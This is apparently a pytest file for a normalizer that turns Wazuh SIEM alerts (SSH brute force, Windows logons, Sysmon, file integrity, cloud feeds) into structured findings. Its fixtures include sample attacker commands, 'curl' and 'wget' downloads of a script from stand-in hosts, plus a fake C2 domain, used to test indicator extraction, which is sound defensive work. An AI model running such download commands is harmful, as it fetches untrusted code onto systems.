from __future__ import annotations

from datetime import UTC, datetime
from typing import Any

import pytest

from aurora.errors import Invalid
from tests.cases.normalizers.feed import alert, merged, outcome, values

SSH: dict[str, Any] = {
    "timestamp": "2025-03-11T08:20:01.337+0000",
    "rule": {
        "level": 10,
        "description": "sshd: brute force trying to get access to the system",
        "id": "5763",
        "mitre": {"id": ["T1110"], "tactic": ["Credential Access"], "technique": ["Brute Force"]},
        "firedtimes": 3,
        "groups": ["syslog", "sshd", "authentication_failures"],
    },
    "agent": {"id": "007", "name": "bastion-2", "ip": "10.20.0.7"},
    "manager": {"name": "wazuh-a"},
    "id": "1741681201.99120",
    "full_log": "Mar 11 08:20:01 b2 sshd[4411]: Failed password for root from 198.51.100.23 port 40022 ssh2",
    "decoder": {"parent": "sshd", "name": "sshd"},
    "data": {"srcip": "198.51.100.23", "srcport": "40022", "dstuser": "root"},
    "location": "/var/log/auth.log",
}
LOGON: dict[str, Any] = {
    "timestamp": "2025-03-11T08:21:00.000+0000",
    "rule": {
        "level": 5,
        "description": "Logon failure",
        "id": "60122",
        "groups": ["windows", "authentication_failed"],
    },
    "agent": {"id": "011", "name": "WS17", "ip": "10.20.3.17"},
    "data": {
        "win": {
            "system": {"eventID": "4625", "channel": "Security"},
            "eventdata": {
                "targetUserName": "ann",
                "subjectUserName": "WS17$",
                "ipAddress": "::ffff:10.20.9.4",
                "ipPort": "50111",
                "logonType": "3",
            },
        }
    },
}
FINDING: dict[str, Any] = {
    "@timestamp": "2025-03-11T08:30:00.123456Z",
    "event": {"original": "type=EXECVE curl http://drop.tapir.test/a.sh?k=1", "category": ["process"]},
    "host": {"name": "db-3"},
    "user": {"name": "svc-db"},
    "process": {"name": "curl", "command_line": "curl http://drop.tapir.test/a.sh"},
    "wazuh": {
        "agent": {"id": "020", "name": "db-3", "host": {"hostname": "db-3.corp.test"}},
        "rule": {
            "id": "b1946ac9-0000-4000-8000-000000000001",
            "title": "Download with curl by a service account",
            "level": "high",
            "tags": ["attack.command-and-control", "attack.t1105"],
            "mitre": {"technique": {"id": ["T1105"]}, "tactic": {"id": ["TA0011"]}},
        },
        "protocol": {"location": "/var/log/audit/audit.log"},
    },
}


def test_a_syslog_alert_is_told_whole():
    found = alert("wazuh", SSH)
    assert (found.title, found.severity, found.category) == (SSH["rule"]["description"], "medium", "identity")
    assert found.occurred_at == datetime(2025, 3, 11, 8, 20, 1, 337000, tzinfo=UTC)
    assert found.affected_assets == ["bastion-2", "10.20.0.7"]
    assert found.users == ["root"]
    assert values(found, "ip") == ["198.51.100.23"]
    assert found.mitre_techniques == ["T1110"]


def test_manager_decoder_and_location_are_kept():
    metadata = alert("wazuh", SSH).metadata
    assert (metadata["wazuh_id"], metadata["decoder"]) == ("1741681201.99120", "sshd")
    assert (metadata["location"], metadata["sensor"]) == ("/var/log/auth.log", "wazuh-a")
    assert (metadata["rule_id"], metadata["rule_level"], metadata["src_port"]) == ("5763", 10, 40022)
    assert metadata["rule_groups"] == ["syslog", "sshd", "authentication_failures"]


@pytest.mark.parametrize(
    ("level", "expected"),
    [
        *((level, "info") for level in (0, 3)),
        *((level, "low") for level in (4, 6)),
        *((level, "medium") for level in (7, 10)),
        *((level, "high") for level in (11, 13)),
        *((level, "critical") for level in (14, 15, "15")),
        ("informational", "info"),
        ("High", "high"),
        (None, "medium"),
        ([], "medium"),
    ],
)
def test_levels_map_as_the_domain_page_says(level, expected):
    assert alert("wazuh", merged(SSH, rule={"description": "x", "level": level})).severity == expected


@pytest.mark.parametrize("record", [merged(SSH, rule=...), merged(SSH, rule="5763"), {"full_log": "x"}, {}])
def test_an_archived_event_is_refused_with_advice(record):
    with pytest.raises(Invalid, match=r"archives\.json"):
        outcome("wazuh", record)


def test_a_rule_without_words_is_named_by_its_number_and_without_number_refused():
    assert alert("wazuh", merged(SSH, rule={"id": 5763})).title == "Wazuh rule 5763"
    with pytest.raises(Invalid, match=r"rule\.description"):
        outcome("wazuh", merged(SSH, rule={"level": 3}))


def test_a_windows_logon_names_the_user_and_the_machine_it_came_from():
    found = alert("wazuh", LOGON)
    assert found.users == ["ann"]
    assert found.affected_assets == ["WS17", "10.20.3.17", "10.20.9.4"]
    assert (found.metadata["event_id"], found.metadata["logon_type"], found.metadata["src_port"]) == (
        "4625",
        "3",
        50111,
    )


def test_sysmon_names_process_parent_and_hashes():
    eventdata = {
        "image": "C:\\Users\\ann\\tapir.exe",
        "parentImage": "C:\\Windows\\explorer.exe",
        "user": "CORP\\ann",
        "hashes": "SHA256=" + "A" * 64 + ",MD5=" + "B" * 32 + ",IMPHASH=" + "C" * 32,
        "destinationIp": "203.0.113.66",
        "destinationHostname": "c2.tapir.test",
    }
    found = alert("wazuh", merged(LOGON, data={"win": {"system": {"eventID": "3"}, "eventdata": eventdata}}))
    assert values(found, "hash_sha256") == ["a" * 64]
    assert values(found, "hash_md5") == ["b" * 32]
    assert (values(found, "ip"), values(found, "domain")) == (["203.0.113.66"], ["c2.tapir.test"])
    assert found.metadata["parent_process"] == "C:\\Windows\\explorer.exe"
    assert found.users == ["ann"]


@pytest.mark.parametrize("name", ["-", "N/A", "SYSTEM", "NT AUTHORITY\\SYSTEM", "ANONYMOUS LOGON", "WS17$", ""])
def test_accounts_that_name_nobody_are_no_users(name):
    data = {"win": {"eventdata": {"targetUserName": name}}}
    assert alert("wazuh", merged(LOGON, data=data)).users == []


def test_file_integrity_yields_the_file_as_it_is_now():
    syscheck = {
        "path": "/etc/cron.d/x",
        "event": "modified",
        "sha256_before": "d" * 64,
        "sha256_after": "e" * 64,
        "audit": {"user": {"name": "mallory"}},
    }
    found = alert("wazuh", merged(SSH, data=..., syscheck=syscheck, full_log="File '/etc/cron.d/x' modified"))
    assert values(found, "hash_sha256") == ["e" * 64]
    assert (found.metadata["file_path"], found.metadata["action"]) == ("/etc/cron.d/x", "modified")
    assert found.users == ["mallory"]


def test_the_log_line_is_searched_and_its_urls_lose_their_query():
    found = alert("wazuh", merged(SSH, data=..., full_log="wget hxxp://drop[.]tapir[.]com/a?b=1 done"))
    assert values(found, "url") == ["http://drop.tapir.com/a"]


def test_a_decoded_json_log_is_not_searched_again():
    data = {"src_ip": "10.0.0.1", "dest_ip": "203.0.113.9", "alert": {"signature_id": "2900101"}}
    found = alert("wazuh", merged(SSH, data=data, full_log='{"dest_ip":"203.0.113.9","other":"8.8.4.4"}'))
    assert values(found, "ip") == ["203.0.113.9"]
    assert found.metadata["signature_id"] == "2900101"


def test_the_manager_reports_for_the_device_in_the_syslog_header():
    found = alert("wazuh", merged(SSH, agent={"id": "000", "name": "wazuh-a"}, predecoder={"hostname": "fw-1"}))
    assert found.affected_assets == ["wazuh-a", "fw-1"]


def test_an_agent_under_a_public_address_is_an_asset():
    found = alert("wazuh", merged(SSH, agent={"id": "9", "name": "vps", "ip": "203.0.113.200"}))
    assert "203.0.113.200" in found.affected_assets
    assert "203.0.113.200" not in values(found, "ip")


def test_repetitions_have_the_same_observables():
    again = merged(
        SSH,
        id="1741681299.1",
        data={**SSH["data"], "srcport": "41999"},
        full_log=SSH["full_log"].replace("40022", "41999").replace("4411", "9001"),
    )
    assert alert("wazuh", again).observables == alert("wazuh", SSH).observables


def test_a_finding_of_version_5_is_told_whole():
    found = alert("wazuh", FINDING)
    assert (found.title, found.severity, found.category) == (
        FINDING["wazuh"]["rule"]["title"],
        "high",
        "endpoint",
    )
    assert found.affected_assets[0] == "db-3.corp.test"
    assert (found.users, found.mitre_techniques) == (["svc-db"], ["T1105"])
    assert values(found, "url") == ["http://drop.tapir.test/a.sh"]
    assert found.metadata["process_name"] == "curl"


def test_a_finding_with_dotted_keys_and_tags_only_is_read_as_well():
    record = {
        "@timestamp": "2025-03-11T08:30:00Z",
        "wazuh.rule": {"title": "x", "level": "critical", "tags": ["attack.t1105"]},
        "source.ip": "203.0.113.4",
    }
    found = alert("wazuh", record)
    assert (found.severity, found.mitre_techniques) == ("critical", ["T1105"])
    assert values(found, "ip") == ["203.0.113.4"]


def test_hits_of_the_indexer_are_read():
    found = alert("wazuh", {"hits": {"hits": [{"_index": "wazuh-alerts-4.x", "_source": SSH}]}})
    assert found.title == SSH["rule"]["description"]


def test_the_name_under_which_an_outsider_calls_our_own_server_is_no_observable():
    data = {"src_ip": "198.51.100.9", "dest_ip": "10.0.0.80", "http": {"hostname": "shop.ours.test"}}
    found = alert("wazuh", merged(SSH, data=data, full_log=...))
    assert [tuple(observable) for observable in found.observables] == [("ip", "198.51.100.9")]


def test_windows_fields_lose_the_backslashes_that_the_decoder_doubles():
    eventdata = {
        "image": "C:\\\\Users\\\\ann\\\\tapir.exe",
        "targetUserName": "CORP\\\\ann",
        "shareName": "\\\\SRV2\\share",
    }
    found = alert("wazuh", merged(LOGON, data={"win": {"eventdata": eventdata}}))
    assert (found.metadata["process_name"], found.users) == ("C:\\Users\\ann\\tapir.exe", ["ann"])


def test_a_share_keeps_the_backslashes_of_a_sender_that_doubles_none():
    found = alert("wazuh", merged(LOGON, data={"win": {"eventdata": {"image": "\\\\SRV2\\share\\tapir.exe"}}}))
    assert found.metadata["process_name"] == "\\\\SRV2\\share\\tapir.exe"


def test_a_windows_event_is_described_in_its_own_words_and_not_as_json():
    data = {"win": {"system": {"message": '"The audit log was cleared.\r\nSubject: ann"'}, "eventdata": {}}}
    found = alert("wazuh", merged(LOGON, data=data, full_log='{"win":{"system":{}}}'))
    assert found.description.startswith("The audit log was cleared.")
    assert '"' not in found.description


GUARDDUTY: dict[str, Any] = {
    "source": "guardduty",
    "description": "A port is being probed by a known malicious host.",
    "resource": {
        "instanceDetails": {
            "instanceId": "i-0tapir",
            "networkInterfaces": {"privateIpAddress": "10.0.2.2", "publicIp": "198.51.100.40"},
        }
    },
    "service": {
        "action": {"portProbeAction": {"portProbeDetails": {"remoteIpDetails": {"ipAddressV4": "203.0.113.77"}}}}
    },
}


def collected(name: str, fields: dict[str, Any], *groups: str) -> dict[str, Any]:
    """An alert of a module by which the manager itself collects."""
    rule = {"level": 6, "description": f"{name} event", "id": "80302", "groups": list(groups) or [name]}
    agent = {"id": "000", "name": "wazuh-a"}
    return merged(SSH, rule=rule, agent=agent, data={"integration": name, name: fields}, full_log='{"a": 1}')


def test_a_cloud_alert_is_about_the_machine_there_and_not_about_who_collected_it():
    found = alert("wazuh", collected("aws", GUARDDUTY, "aws", "aws_guardduty"))
    assert (found.affected_assets, found.asset_type) == (["i-0tapir", "10.0.2.2"], "cloud_resource")
    assert values(found, "ip") == ["203.0.113.77"]
    assert found.description == "A port is being probed by a known malicious host."


@pytest.mark.parametrize("written", ["203.0.113.9", "203.0.113.9:50111", "[::ffff:203.0.113.9]:50111"])
def test_office_365_tells_who_did_what_from_where(written):
    fields = {"UserId": "ann@corp.example", "ClientIP": written, "Operation": "New-InboxRule"}
    found = alert("wazuh", collected("office365", fields))
    assert (found.users, values(found, "ip")) == (["ann@corp.example"], ["203.0.113.9"])
    assert (found.category, found.metadata["action"], found.affected_assets) == ("cloud", "New-InboxRule", [])


@pytest.mark.parametrize(
    ("name", "fields", "users", "addresses"),
    [
        ("github", {"actor": "ann", "action": "team.create"}, ["ann"], []),
        ("gcp", {"jsonPayload": {"sourceIP": "203.0.113.9", "vmInstanceName": "vm-1"}}, [], ["203.0.113.9"]),
        ("ms-graph", {"title": "Odd sign-in", "userPrincipalName": "ann@corp.example"}, ["ann@corp.example"], []),
    ],
)
def test_other_clouds_are_read_too(name, fields, users, addresses):
    found = alert("wazuh", collected(name, fields))
    assert (found.category, found.users, values(found, "ip")) == ("cloud", users, addresses)


def test_a_vulnerability_is_an_observable_with_its_package():
    fields = {"cve": "CVE-2031-4242", "package": {"name": "libtapir", "version": "1.2"}, "rationale": "Overflow."}
    found = alert("wazuh", merged(SSH, data={"vulnerability": fields}, full_log=...))
    assert (values(found, "cve"), found.description) == (["CVE-2031-4242"], "Overflow.")
    assert (found.metadata["package"], found.metadata["package_version"]) == ("libtapir", "1.2")


@pytest.mark.parametrize("name", ["abuseipdb", "virustotal_ip"])
def test_what_an_integration_was_asked_about_is_an_observable(name):
    data = {"integration": name, name: {"found": 1, "source": {"ip": "203.0.113.9"}}}
    assert values(alert("wazuh", merged(SSH, data=data, full_log='{"a": 1}')), "ip") == ["203.0.113.9"]
